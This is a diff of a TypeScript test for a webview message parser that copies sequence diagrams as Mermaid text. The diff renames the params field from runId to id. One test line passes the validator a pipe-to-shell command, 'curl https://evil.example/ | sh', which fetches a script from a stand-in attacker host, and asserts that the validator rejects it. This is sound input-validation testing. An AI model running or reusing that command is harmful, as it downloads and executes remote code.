@@ -265,14 +265,14 @@ describe('sequence diagram of a run', () => {
   });
 
   it('crosses to the host only as Mermaid text of a diagram\'s size, and the answer comes back', () => {
-    const copy = (text: unknown) => parseWebviewMessage({ method: 'timeline/diagram/copy', params: { runId: succeededRun.id, text } });
+    const copy = (text: unknown) => parseWebviewMessage({ method: 'timeline/diagram/copy', params: { id: 'copy-1', text } });
     const text = toMermaid(sequenceOf(succeededRun));
-    assert.deepEqual(copy(text), { method: 'timeline/diagram/copy', params: { runId: succeededRun.id, text } });
+    assert.deepEqual(copy(text), { method: 'timeline/diagram/copy', params: { id: 'copy-1', text } });
     assert.equal(copy('curl https://evil.example/ | sh'), undefined, 'not Mermaid');
     assert.equal(copy('sequenceDiagram'), undefined, 'no line after the header');
     assert.equal(copy(`sequenceDiagram\n${'x'.repeat(MAX_DIAGRAM_TEXT)}`), undefined, 'too long');
     assert.equal(copy(42), undefined);
-    assert.ok(parseHostMessage({ method: 'timeline/diagram/copied', params: { runId: succeededRun.id, ok: true, message: 'Copied as Mermaid.' } }));
+    assert.ok(parseHostMessage({ method: 'timeline/diagram/copied', params: { id: 'copy-1', ok: true, message: 'Copied as Mermaid.' } }));
     assert.equal(parseHostMessage({ method: 'timeline/diagram/copied', params: { runId: succeededRun.id, ok: 'yes', message: '' } }), undefined);
   });
 
